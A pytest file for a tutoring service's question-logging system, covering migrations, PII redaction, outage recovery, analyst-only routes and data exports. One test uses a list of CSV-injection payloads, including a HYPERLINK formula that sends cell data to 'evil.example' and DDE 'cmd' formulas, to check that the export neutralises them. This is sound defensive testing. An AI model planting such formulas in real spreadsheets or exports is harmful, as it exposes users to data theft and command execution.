"""The learning-signal log on SQLite and on the real PostgreSQL: schema, privacy, no loss, analyst surface."""

from __future__ import annotations

import asyncio
import csv
import io
import json
import time
import uuid
from dataclasses import replace
from datetime import UTC, datetime, timedelta

import httpx
import pytest
from alembic.autogenerate import compare_metadata
from alembic.migration import MigrationContext
from fastapi.testclient import TestClient
from sqlalchemy import create_engine, inspect, select, text
from sqlmodel import Session, SQLModel

from mentor.answer import ChatInput
from mentor.api import create_app
from mentor.api.schemas import ChatResponse
from mentor.db import make_engine
from mentor.runtime import build_chat
from mentor.signals.exports import FORMULA_STARTS, export_lines
from mentor.signals.queries import purge_older_than
from mentor.signals.schema import migrate
from mentor.signals.tables import FeedbackRow, LearnerRow, PassageRow, QuestionRow, ToolCallRow
from mentor.signals.writer import SignalWriter

from .conftest import MODULE_ID, UNLIMITED, make_settings
from .proxy import Proxy

PG = "postgresql+psycopg://postgres@127.0.0.1:5432/test"
TOKEN = "analyst-secret-token-of-at-least-32-bytes"


@pytest.fixture(params=["sqlite", "postgresql"])
def db_url(request, tmp_path):
    """A fresh, empty database: a SQLite file, or a new schema in the real PostgreSQL."""
    if request.param == "sqlite":
        yield f"sqlite:///{tmp_path / 'signals.db'}"
        return
    schema = f"mentor_test_{uuid.uuid4().hex[:12]}"
    admin = create_engine(PG, isolation_level="AUTOCOMMIT")
    with admin.connect() as connection:
        connection.execute(text(f"CREATE SCHEMA {schema}"))
    yield f"{PG}?options=-csearch_path%3D{schema}"
    with admin.connect() as connection:
        connection.execute(text(f"DROP SCHEMA {schema} CASCADE"))
    admin.dispose()


def signals_runtime(runtime, tmp_path, url, **settings):
    """The session runtime with its own database, writer and chat service (same index and embedder)."""
    config = make_settings(tmp_path, database_url=url, analyst_token=TOKEN, **UNLIMITED | settings)
    engine = make_engine(url)
    migrate(engine)
    writer = SignalWriter(engine, tmp_path / "signals.spool", embed=runtime.embedder.embed_query, retry_s=0.1)
    chat = build_chat(config, runtime.catalog, runtime.embedder, sink=writer)
    return replace(runtime, settings=config, database=engine, chat=chat, writer=writer.start(), analyst_token=TOKEN)


def ask(rt, message: str, learner: str | None = None, conversation: str | None = None) -> dict:
    request = ChatInput(message=message, module_id=MODULE_ID, learner_id=learner, conversation_id=conversation)
    return ChatResponse.of(asyncio.run(rt.chat.ask(request))).public()


def count(engine, table) -> int:
    with Session(engine) as session:
        return session.exec(select(table)).scalars().all().__len__()


def test_migrations_from_empty_match_the_models(db_url) -> None:
    engine = make_engine(db_url)
    migrate(engine)
    migrate(engine)  # a second start is a no-op
    names = set(inspect(engine).get_table_names())
    assert {
        "learners",
        "conversations",
        "questions",
        "question_passages",
        "tool_calls",
        "feedback",
        "alembic_version",
    } <= names
    with engine.connect() as connection:
        diff = compare_metadata(MigrationContext.configure(connection), SQLModel.metadata)
    assert diff == [], diff
    indexes = {i["name"] for i in inspect(engine).get_indexes("questions")}
    assert {"ix_questions_module_created", "ix_questions_section_created", "ix_questions_learner_id"} <= indexes


def test_questions_become_redacted_pseudonymous_rows(db_url, tmp_path, runtime) -> None:
    rt = signals_runtime(runtime, tmp_path, db_url)
    answer = ask(
        rt,
        "Hi, my name is Jane Doe (jane.doe@example.com). What's the optimizer state of a 13B model?",
        learner="host-user-77",
    )
    ask(rt, "how do I bake bread?", learner="host-user-77")
    assert rt.writer.flush()
    with Session(rt.database) as session:
        rows = session.exec(select(QuestionRow).order_by(QuestionRow.created_at)).scalars().all()
        learners = session.exec(select(LearnerRow)).scalars().all()
        tools = session.exec(select(ToolCallRow)).scalars().all()
        passages = session.exec(select(PassageRow).where(PassageRow.question_id == rows[0].id)).scalars().all()
    first, second = rows
    assert first.id == answer["question_id"] and "156 GB" in answer["answer"]  # answered from the original text
    assert "Jane" not in first.text and "jane.doe" not in first.text and "[EMAIL]" in first.text
    assert set(first.redactions) == {"email", "name"}
    assert first.primary_section_id == "worked-memory-example" and first.grounded and not first.out_of_scope
    assert first.engine == "extractive" and first.latency_ms > 0 and len(first.embedding) == 384 * 4
    assert second.out_of_scope and second.primary_section_id is None
    assert [t.name for t in tools] == ["training_memory"] and tools[0].result["optimizer_bytes"] == 156_000_000_000
    assert len(passages) == 4 and any(p.cited for p in passages)
    (learner,) = learners
    assert learner.id == rt.chat.learner_key("host-user-77") and "host-user-77" not in learner.id
    rt.writer.stop()


def test_200_concurrent_questions_give_200_rows(db_url, tmp_path, runtime) -> None:
    rt = signals_runtime(runtime, tmp_path, db_url)
    app = create_app(rt.settings, runtime=rt)
    questions = ["what does ZeRO stage 2 shard?", "int4 70B", "why bf16?", "tokens for 7B", "what is LoRA?"]

    async def run() -> list[int]:
        transport = httpx.ASGITransport(app=app)
        async with (
            app.router.lifespan_context(app),
            httpx.AsyncClient(transport=transport, base_url="http://mentor") as client,
        ):
            responses = await asyncio.gather(
                *[
                    client.post("/v1/chat", json={"message": questions[i % 5], "learner_id": f"l{i % 40}"})
                    for i in range(200)
                ]
            )
        return [r.status_code for r in responses]

    assert asyncio.run(run()) == [200] * 200
    assert rt.writer.flush(30)
    assert count(rt.database, QuestionRow) == 200 and count(rt.database, LearnerRow) == 40
    rt.writer.stop()


def test_database_outage_loses_nothing_and_writes_nothing_twice(tmp_path, runtime) -> None:
    """PostgreSQL behind a proxy that goes down for a while: answers keep coming; every signal lands once."""
    schema = f"mentor_outage_{uuid.uuid4().hex[:8]}"
    admin = create_engine(PG, isolation_level="AUTOCOMMIT")
    with admin.connect() as connection:
        connection.execute(text(f"CREATE SCHEMA {schema}"))
    proxy = Proxy(5432)
    proxy.up()
    try:
        url = f"postgresql+psycopg://postgres@127.0.0.1:{proxy.port}/test?options=-csearch_path%3D{schema}"
        rt = signals_runtime(runtime, tmp_path, url)
        before = [ask(rt, "what is ZeRO?", learner=f"a{i}") for i in range(5)]
        assert rt.writer.flush()
        proxy.down()
        started = time.perf_counter()
        during = [ask(rt, "why do we need loss scaling?", learner=f"b{i}") for i in range(30)]
        elapsed = time.perf_counter() - started
        assert all(a["citations"] for a in during) and elapsed < 15  # answers keep coming, unslowed
        deadline = time.monotonic() + 15
        while rt.writer.spooled < 30 and time.monotonic() < deadline:
            time.sleep(0.1)
        spooled_after_s = 15 - (deadline - time.monotonic())
        assert rt.writer.spooled >= 30 and rt.writer.flush(0.5) is False, spooled_after_s
        proxy.up()
        assert rt.writer.flush(30)
        with Session(rt.database) as session:
            ids = list(session.exec(select(QuestionRow.id)).scalars())
        expected = {a["question_id"] for a in before + during}
        assert len(ids) == len(set(ids)) == 35 and set(ids) == expected
        rt.writer.stop()
    finally:
        proxy.down()
        with admin.connect() as connection:
            connection.execute(text(f"DROP SCHEMA {schema} CASCADE"))
        admin.dispose()


def test_spool_written_with_a_wrong_port_is_replayed_once_by_the_next_start(tmp_path, runtime, db_url) -> None:
    wrong = "postgresql+psycopg://postgres@127.0.0.1:1/test"
    rt = signals_runtime(runtime, tmp_path, f"sqlite:///{tmp_path / 'unused.db'}")
    rt.writer.stop()
    down = SignalWriter(make_engine(wrong), tmp_path / "outage.spool", retry_s=0.05).start()
    rt.chat.sink = down
    asked = [ask(rt, "what is pipeline parallelism?", learner="w") for _ in range(12)]
    time.sleep(0.5)
    down.stop()
    spool = (tmp_path / "outage.spool").read_text().splitlines()
    assert len(spool) == 12
    (tmp_path / "outage.spool").write_text("\n".join(spool + spool[:5]) + "\n")  # a replay that repeats itself
    engine = make_engine(db_url)
    migrate(engine)
    fixed = SignalWriter(engine, tmp_path / "outage.spool").start()
    assert fixed.flush(20)
    with Session(engine) as session:
        ids = list(session.exec(select(QuestionRow.id).order_by(QuestionRow.created_at)).scalars())
    assert ids == [a["question_id"] for a in asked]  # in order, once
    fixed.stop()


@pytest.fixture
def analyst(tmp_path, runtime):
    rt = signals_runtime(
        runtime, tmp_path, f"sqlite:///{tmp_path / 'analyst.db'}", min_cohort=3, public_url="https://learn.example.org"
    )
    with TestClient(create_app(rt.settings, runtime=rt)) as client:
        yield rt, client
    rt.writer.stop()


AUTH = {"Authorization": f"Bearer {TOKEN}"}


@pytest.mark.parametrize(
    "headers",
    [
        {},
        {"Authorization": "Bearer wrong"},
        {"Authorization": TOKEN},
        {"Authorization": "Basic " + TOKEN},
        {"Authorization": "Bearer learner-1"},
    ],
)
def test_analyst_routes_need_the_token(analyst, headers) -> None:
    _, client = analyst
    for method, path in [
        ("GET", "/v1/signals/questions"),
        ("GET", "/v1/signals/summary"),
        ("GET", "/v1/signals/export"),
        ("DELETE", "/v1/learners/learner-1"),
    ]:
        response = client.request(method, path, headers=headers)
        assert response.status_code == 401 and "Bearer" in response.json()["message"]


def test_question_list_filters_and_cursor_pages(analyst) -> None:
    rt, client = analyst
    for i in range(7):
        client.post("/v1/chat", json={"message": "what does ZeRO stage 2 shard?", "learner_id": f"p{i}"})
    client.post("/v1/chat", json={"message": "how do I bake bread?", "learner_id": "p0"})
    assert rt.writer.flush()
    first = client.get("/v1/signals/questions", params={"limit": 3}, headers=AUTH).json()
    assert len(first["items"]) == 3 and first["next_cursor"]
    seen = [q["question_id"] for q in first["items"]]
    cursor = first["next_cursor"]
    while cursor:
        page = client.get("/v1/signals/questions", params={"limit": 3, "cursor": cursor}, headers=AUTH).json()
        seen += [q["question_id"] for q in page["items"]]
        cursor = page["next_cursor"]
    assert len(seen) == len(set(seen)) == 8
    oos = client.get("/v1/signals/questions", params={"out_of_scope": "true"}, headers=AUTH).json()["items"]
    assert [q["text"] for q in oos] == ["how do I bake bread?"]
    section = client.get("/v1/signals/questions", params={"section_id": "ref-parallelism-zero"}, headers=AUTH)
    assert len(section.json()["items"]) == 7
    future = client.get("/v1/signals/questions", params={"since": "2999-01-01T00:00:00Z"}, headers=AUTH)
    assert future.json()["items"] == []
    bad = client.get("/v1/signals/questions", params={"cursor": "garbage"}, headers=AUTH)
    assert bad.status_code == 422 and "cursor" in bad.json()["message"]
    assert client.get("/v1/signals/questions", params={"limit": 0}, headers=AUTH).status_code == 422


def test_coverage_is_logged_and_filters_where_the_module_falls_short(analyst) -> None:
    rt, client = analyst
    client.post("/v1/chat", json={"message": "what does fp8 change compared to bf16?", "learner_id": "c1"})
    client.post("/v1/chat", json={"message": "what does ZeRO stage 2 shard?", "learner_id": "c2"})
    client.post("/v1/chat", json={"message": "how do I bake bread?", "learner_id": "c3"})
    assert rt.writer.flush()
    by = {
        value: [
            q["text"]
            for q in client.get("/v1/signals/questions", params={"coverage": value}, headers=AUTH).json()["items"]
        ]
        for value in ("full", "partial", "none")
    }
    assert by == {
        "full": ["what does ZeRO stage 2 shard?"],
        "partial": ["what does fp8 change compared to bf16?"],
        "none": ["how do I bake bread?"],
    }
    bad = client.get("/v1/signals/questions", params={"coverage": "most"}, headers=AUTH)
    assert bad.status_code == 422
    csv = client.get("/v1/signals/export", params={"format": "csv"}, headers=AUTH).text
    assert "coverage" in csv.splitlines()[0] and ",partial," in csv


def test_summary_hides_groups_below_the_cohort(analyst) -> None:
    rt, client = analyst
    for i in range(3):  # min_cohort is 3 in this fixture
        client.post("/v1/chat", json={"message": "what does ZeRO stage 2 shard?", "learner_id": f"z{i}"})
    for i in range(2):
        client.post("/v1/chat", json={"message": "why does fp16 need loss scaling?", "learner_id": f"m{i}"})
    client.post("/v1/chat", json={"message": "int4 70B", "learner_id": "q0"})
    assert rt.writer.flush()
    summary = client.get("/v1/signals/summary", params={"bucket": "week"}, headers=AUTH).json()
    sections = {row["section_id"]: row for row in summary["questions_per_section"]}
    assert set(sections) == {"ref-parallelism-zero"} and sections["ref-parallelism-zero"]["questions"] == 3
    assert summary["suppressed_groups"] >= 2 and "fewer than 3" in summary["note"]
    assert summary["questions"] == 6 and summary["grounded_share"] == 1.0
    assert summary["tool_usage"] == []  # one learner used a calculator: below the cohort
    (cluster,) = [c for c in summary["most_asked"] if c["questions"] == 3]
    assert cluster["example"] == "what does ZeRO stage 2 shard?" and cluster["learners"] == 3
    assert {e["engine"] for e in summary["engine_mix"]} == {"extractive"}


def test_exports_parse_back(analyst) -> None:
    rt, client = analyst
    asked = client.post("/v1/chat", json={"message": "what does ZeRO stage 2 shard?", "learner_id": "e1"}).json()
    client.post("/v1/chat", json={"message": "int4 70B, my email is x@y.org", "learner_id": "e2"})
    assert rt.writer.flush()
    rows = list(
        csv.DictReader(io.StringIO(client.get("/v1/signals/export", params={"format": "csv"}, headers=AUTH).text))
    )
    assert len(rows) == 2 and rows[0]["question_id"] == asked["question_id"]
    assert rows[1]["tools"] == "quantized_size" and "x@y.org" not in rows[1]["text"]
    lines = client.get("/v1/signals/export", params={"format": "jsonl"}, headers=AUTH).text.splitlines()
    records = [json.loads(line) for line in lines]
    assert [r["question_id"] for r in records] == [r["question_id"] for r in rows]
    response = client.get("/v1/signals/export", params={"format": "xapi"}, headers=AUTH)
    statements = [json.loads(line) for line in response.text.splitlines()]
    statement = statements[0]
    assert statement["version"] == "1.0.3" and uuid.UUID(statement["id"])
    assert statement["actor"]["account"] == {"homePage": "https://learn.example.org", "name": rt.chat.learner_key("e1")}
    assert statement["verb"]["id"] == "http://adlnet.gov/expapi/verbs/asked"
    assert statement["object"]["id"].endswith("/sections/ref-parallelism-zero")
    assert statement["result"]["response"] == asked["answer"]
    assert datetime.fromisoformat(statement["timestamp"]).tzinfo is not None
    extensions = statement["context"]["extensions"]
    assert any(k.endswith("/passages") for k in extensions) and any(k.endswith("/grounding") for k in extensions)
    again = [
        json.loads(line)
        for line in client.get("/v1/signals/export", params={"format": "xapi"}, headers=AUTH).text.splitlines()
    ]
    assert [s["id"] for s in again] == [s["id"] for s in statements]  # stable ids
    assert client.get("/v1/signals/export", params={"format": "pdf"}, headers=AUTH).status_code == 422


# Cells OWASP's CSV-injection guidance names: each would run in a spreadsheet as a formula (a tab or carriage return
# is dropped first, then the formula after it runs).
HOSTILE_QUESTIONS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)",
    "-2+3+cmd|' /C calc'!A0",
    "\t=1+1 what does ZeRO stage 2 shard?",
    "\r=1+1 what does ZeRO stage 2 shard?",
]


def formula_cells(table: list[list[str]]) -> list[str]:
    """The cells a spreadsheet would read as a formula: text starting with = + - @ tab or CR (a number is data)."""
    live = []
    for cell in (cell for row in table for cell in row):
        try:
            float(cell)  # "-0.25" is a negative relevance, not a formula
        except ValueError:
            if cell.startswith(FORMULA_STARTS):
                live.append(cell)
    return live


def test_csv_exports_carry_no_formula_cells_and_jsonl_the_exact_text(analyst, tmp_path) -> None:
    rt, client = analyst
    for i, message in enumerate(HOSTILE_QUESTIONS):
        response = client.post("/v1/chat", json={"message": message, "learner_id": f"formula-{i}"})
        assert response.status_code == 200, response.text
    assert rt.writer.flush()
    jsonl = client.get("/v1/signals/export", params={"format": "jsonl"}, headers=AUTH).text
    records = [json.loads(line) for line in jsonl.splitlines()]
    stored = [record["text"] for record in records]
    assert len(stored) == len(HOSTILE_QUESTIONS)
    # The questions are stored as the scrubber left them; at least the four formulas reach storage with their lead
    # character (so the test would see a live cell if the export let one through).
    assert sum(text.startswith(FORMULA_STARTS) for text in stored) >= 4, stored
    # The tab- and CR-led questions may be trimmed on the way in: the real exporter gets them as stored rows too.
    rows = records + [records[0] | {"question_id": f"raw-{i}", "text": q} for i, q in enumerate(HOSTILE_QUESTIONS)]
    through_http = client.get("/v1/signals/export", params={"format": "csv"}, headers=AUTH).text
    written = "".join(export_lines(rows, "csv", home_page="https://learn.example.org"))
    for exported in (through_http, written):
        table = list(csv.reader(io.StringIO(exported, newline="")))
        assert len(table) > len(HOSTILE_QUESTIONS) and formula_cells(table) == []
    table = list(csv.DictReader(io.StringIO(written, newline="")))
    texts = {row["question_id"]: row["text"] for row in table}
    for record in rows:  # quoted, not changed: a leading ' and then exactly what was stored
        expected = "'" + record["text"] if record["text"].startswith(FORMULA_STARTS) else record["text"]
        assert texts[record["question_id"]] == expected
    assert texts["raw-0"] == "'" + HOSTILE_QUESTIONS[0] and texts["raw-4"] == "'" + HOSTILE_QUESTIONS[4]
    # JSON lines (and xAPI) stay byte-exact: the stored text, not a spreadsheet's quoting of it.
    assert "".join(export_lines(rows, "jsonl", home_page="https://learn.example.org")).splitlines()[-1] == json.dumps(
        rows[-1], ensure_ascii=False
    )
    assert [json.loads(line)["text"] for line in jsonl.splitlines()] == stored
    xapi = client.get("/v1/signals/export", params={"format": "xapi"}, headers=AUTH).text
    questions = [next(v for k, v in json.loads(line)["context"]["extensions"].items() if k.endswith("/question"))
                 for line in xapi.splitlines()]  # fmt: skip
    assert questions == stored


def test_feedback_only_from_the_learner_who_asked(analyst) -> None:
    rt, client = analyst
    asked = client.post("/v1/chat", json={"message": "what is FSDP?", "learner_id": "fb"}).json()
    path = f"/v1/questions/{asked['question_id']}/feedback"
    assert (
        client.post(path, json={"rating": "up", "learner_id": "fb", "comment": "great, mail me@x.io"}).status_code
        == 201
    )
    assert client.post(path, json={"rating": "down", "learner_id": "someone-else"}).status_code == 404
    assert client.post(path, json={"rating": "meh", "learner_id": "fb"}).status_code == 422
    assert client.post(f"/v1/questions/{'0' * 32}/feedback", json={"rating": "up"}).status_code == 404
    assert client.post("/v1/questions/nope/feedback", json={"rating": "up"}).status_code == 422
    assert rt.writer.flush()
    with Session(rt.database) as session:
        (row,) = session.exec(select(FeedbackRow)).scalars().all()
    assert row.rating == "up" and "me@x.io" not in row.comment and row.redactions == ["email"]


def test_erasure_removes_one_learner_and_only_them(analyst) -> None:
    rt, client = analyst
    gone = client.post("/v1/chat", json={"message": "int4 70B", "learner_id": "leaver"}).json()
    client.post(f"/v1/questions/{gone['question_id']}/feedback", json={"rating": "up", "learner_id": "leaver"})
    client.post("/v1/chat", json={"message": "what is ZeRO?", "learner_id": "stayer"})
    assert rt.writer.flush()
    assert client.delete("/v1/learners/leaver", headers=AUTH).status_code == 204
    key = rt.chat.learner_key("leaver")
    with Session(rt.database) as session:
        for table in (QuestionRow, FeedbackRow, LearnerRow):
            column = table.id if table is LearnerRow else table.learner_id
            assert session.exec(select(table).where(column == key)).scalars().all() == []
        assert session.exec(select(ToolCallRow)).scalars().all() == []
        assert len(session.exec(select(QuestionRow)).scalars().all()) == 1
    follow = client.post(
        "/v1/chat", json={"message": "and int8?", "learner_id": "leaver", "conversation_id": gone["conversation_id"]}
    )
    assert follow.status_code == 404  # the conversation is forgotten too


def test_purge_enforces_retention(db_url, tmp_path, runtime) -> None:
    rt = signals_runtime(runtime, tmp_path, db_url)
    ask(rt, "what is ZeRO?", learner="old")
    assert rt.writer.flush()
    now = datetime.now(UTC)
    assert purge_older_than(rt.database, timedelta(days=180), now=now) == 0
    assert purge_older_than(rt.database, timedelta(days=180), now=now + timedelta(days=181)) == 1
    assert count(rt.database, QuestionRow) == 0 and count(rt.database, PassageRow) == 0
    rt.writer.stop()


def test_the_writer_reads_a_question_as_retrieval_did_and_takes_no_second_forward_pass(runtime) -> None:
    """A question with jargon ("z3", "DP") is embedded spelled out by retrieval; the signal's vector reuses it."""
    from mentor.signals.records import question_record

    message = f"DP with z3: what does each GPU hold for a 13B model, run {uuid.uuid4().hex[:8]}?"
    answered = asyncio.run(runtime.chat.ask(ChatInput(message=message, learner_id="jargon", client="t")))
    before = runtime.embedder.queries_embedded
    record = question_record(answered, embed=runtime.embedder.embed_query)
    assert record["embedding"]  # the vector is there ...
    assert runtime.embedder.queries_embedded == before  # ... and came from the query cache
